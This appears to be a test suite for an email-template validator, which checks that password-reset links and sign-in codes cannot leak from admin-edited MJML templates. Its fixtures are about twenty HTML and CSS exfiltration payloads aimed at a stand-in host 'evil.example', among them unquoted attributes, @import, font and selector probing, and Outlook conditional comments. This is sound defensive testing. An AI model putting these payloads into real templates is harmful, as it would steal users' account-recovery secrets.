import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { auth } from '#contract/identity/auth.ts'
import { emailTemplates, type TemplateKey } from '#contract/mail/templates/templates.ts'
import { BUILT_IN_TEMPLATES } from '#server/mail/templates/built-in-templates.ts'
import { refusalOf, testApp, type Caller, type TestApp } from '#test/app.ts'
import { mailsTo } from '#test/factories/mail/mails.ts'
import { testOrganization } from '#test/factories/test-organization.ts'

let forecourt: TestApp
let admin: Caller
beforeAll(async () => {
  forecourt = await testApp()
  admin = await forecourt.as('northgate.admin', 'Northgate Ford')
})
afterAll(() => forecourt.close())

/** A layout with a valid use of the secret, followed by `more`. */
const layout = (secret: string, more: string, head = ''): string =>
  `<mjml><mj-head>${head}</mj-head><mj-body><mj-section><mj-column><mj-text>Here: {{ ${secret} }} .</mj-text>
  <mj-text>${more}</mj-text></mj-column></mj-section></mj-body></mjml>`

const SECRETS = [
  ['link', 'password-reset'],
  ['code', 'sign-in-code'],
] as const

/**
 * Ways around the guard, each for the link and for the code. The first six are those of the security review: twelve ways, which all
 * were accepted.
 */
const WAYS: readonly [string, (secret: string) => string][] = [
  ['an unquoted src', (s) => layout(s, `<img src=https://evil.example/{{ ${s} }}>`)],
  ['an unquoted href', (s) => layout(s, `<a href=https://evil.example/{{ ${s} }}>a new password</a>`)],
  ['an unquoted srcset', (s) => layout(s, `<img srcset=https://evil.example/{{ ${s} }}>`)],
  ['an href behind a title', (s) => layout(s, `<a title=">" href="https://evil.example/{{ ${s} }}">x</a>`)],
  ['entities around it', (s) => layout(s, `<img src=&quot;https://evil.example/{{ ${s} }}&quot;>`)],
  [
    'an @import',
    (s) => layout(s, 'x', `<mj-style>@import "https://evil.example/{{ ${s} }}.css";</mj-style>`),
  ],
  ['capitals', (s) => layout(s, `<IMG SRC='https://evil.example/{{ ${s} }}'>`)],
  ['a style', (s) => layout(s, `<p style=background:url(https://evil.example/{{ ${s} }})>x</p>`)],
  ['a style element', (s) => layout(s, 'x', `<mj-style>p { content: "{{ ${s} }}" }</mj-style>`)],
  ['a comment', (s) => layout(s, `<!-- {{ ${s} }} -->`)],
  [
    'a comment that Outlook reads',
    (s) => layout(s, `<!--[if mso]><img src="//evil.example/{{ ${s} }}"><![endif]-->`),
  ],
  ['the name of an attribute', (s) => layout(s, `<p {{ ${s} }}>x</p>`)],
  ['an attribute given twice', (s) => layout(s, `<img src="a.png" src="https://evil.example/{{ ${s} }}">`)],
  ['another address in text', (s) => layout(s, `https://evil.example/<b>{{ ${s} }}</b>`)],
  ['the href of another element', (s) => layout(s, `<area href="{{ ${s} }}">`)],
  // Styles that report which links or letters they find, with one picture or font for each guess.
  [
    'a font of another server',
    (s) => layout(s, '<p style="font-family: X">x</p>', '<mj-font name="X" href="https://evil.example/x" />'),
  ],
  ['a style sheet of another server', (s) => layout(s, '<link rel=stylesheet href=https://evil.example/x>')],
  ['a style that imports', (s) => layout(s, '<style>@\\69mport "https://evil.example/x"</style>')],
  [
    'a selector of addresses',
    (s) => layout(s, '<style>a[/**/*|href*="#a"] { background: url(https://evil.example/a) }</style>'),
  ],
  [
    'a font for single letters',
    (s) => layout(s, '<style>@font-face { src: url(https://evil.example/1); unicode-range: U+31 }</style>'),
  ],
]

describe.each(SECRETS)('the %s of an email', (secret, key) => {
  test.for(WAYS)(
    'is rejected in %s: on preview, on save and when the email is composed',
    async ([, write]) => {
      const { words } = BUILT_IN_TEMPLATES[key]
      const changed = { ...words, mjml: write(secret) }
      const { problems } = await admin.call(emailTemplates.preview, { key, ...changed })
      expect(problems.map((problem) => problem.part)).toContain('mjml')
      const { version } = await admin.call(emailTemplates.get, { key })
      const { status, refusal } = await refusalOf(
        admin.call(emailTemplates.update, { key, version, ...changed }),
      )
      expect([status, refusal.fields?.mjml]).toEqual([400, expect.stringContaining(`The ${secret} can`)])
      expect([await isSendable(key, words), await isSendable(key, changed)]).toEqual([true, false])
    },
  )

  test('is rejected in another address in the plain text', async () => {
    const { words } = BUILT_IN_TEMPLATES[key]
    const text = `${words.text}\nhttps://evil.example/{{ ${secret} }}`
    const { problems } = await admin.call(emailTemplates.preview, { key, ...words, text })
    expect(problems).toMatchObject([{ part: 'text', sentence: expect.stringContaining('another address') }])
  })
})

test.for(['script', 'base', 'meta', 'form', 'iframe', 'object', 'embed', 'noscript', 'svg'])(
  'rejects <%s>, also in Outlook conditional comments',
  async (name) => {
    for (const more of [
      `<${name} x=y>z</${name}>`,
      `<!--[if mso]><td><${name.toUpperCase()}></td><![endif]-->`,
    ]) {
      if (name === 'noscript' && more.startsWith('<!--')) continue
      const mjml = layout('link', more)
      const words = { ...BUILT_IN_TEMPLATES['password-reset'].words, mjml }
      const { problems } = await admin.call(emailTemplates.preview, { key: 'password-reset', ...words })
      expect(problems).toEqual([
        { part: 'mjml', line: null, sentence: `An email can't contain <${name}>. Remove it.` },
      ])
    }
  },
)

test('accepts a template with all MJML components, with the link in a button and in text, and loads no fonts', async () => {
  const mjml = `<mjml><mj-head><mj-title>Hello</mj-title><mj-preview>Hello</mj-preview>
    <mj-style inline="inline">p { color: red }</mj-style><mj-style>.x[class="x"] { content: "\\201C" }</mj-style>
    </mj-head><mj-body><mj-hero background-url="https://x.example/a.png"><mj-text font-family="Roboto">Hi</mj-text></mj-hero>
    <mj-section background-url="https://x.example/a.png"><mj-column><mj-social>
    <mj-social-element name="facebook" href="https://x.example/x">F</mj-social-element></mj-social>
    <mj-accordion><mj-accordion-element><mj-accordion-title>a</mj-accordion-title><mj-accordion-text>b</mj-accordion-text>
    </mj-accordion-element></mj-accordion><mj-carousel><mj-carousel-image src="https://x.example/a.png" /></mj-carousel>
    <mj-button href="{{ link }}">Go</mj-button><mj-text>Or <a href={{ link }}>here</a>: {{ link }}</mj-text>
    </mj-column></mj-section></mj-body></mjml>`
  const words = { ...BUILT_IN_TEMPLATES.invitation.words, mjml }
  const { problems, html } = await admin.call(emailTemplates.preview, { key: 'invitation', ...words })
  expect(problems).toEqual([])
  expect(html.split('https://cars.example.com/auth/reset-password#sample')).toHaveLength(4)
  expect(html).not.toContain('fonts.googleapis')
})

test('sends the built-in template instead of an unsafe one saved before the guard existed', async () => {
  const place = await testOrganization(forecourt, 'Harbor Honda')
  const id = await place.addMember({ userName: 'guarded.reader', userType: 'Dealer user' })
  const mjml = layout('link', '<a href=https://evil.example/{{ link }}>a new password</a>')
  const { subject, text } = BUILT_IN_TEMPLATES['password-reset'].words
  await forecourt.owner.query(
    `insert into email_templates (customer_id, key, version, is_built_in, subject, mjml, plain_text)
    values ($1, 'password-reset', 1000, false, $2, $3, $4)`,
    [place.customerId, `Evil ${subject}`, mjml, text],
  )
  await forecourt.anonymous.call(auth.forgotPassword, { userName: 'guarded.reader' })
  const [mail] = await mailsTo(forecourt, { id })
  expect(mail?.subject).toBe('Reset your password for Harbor Office')
})

/** Whether an email is composed from this template. */
async function isSendable(key: TemplateKey, words: { subject: string; mjml: string; text: string }) {
  const samples = BUILT_IN_TEMPLATES[key].variables.map(({ name, sample }) => [name, sample] as const)
  const { link, code, ...variables } = Object.fromEntries(samples)
  const { problems } = await forecourt.outbox.renderer.render(words, variables, { link, code })
  return problems.length === 0
}
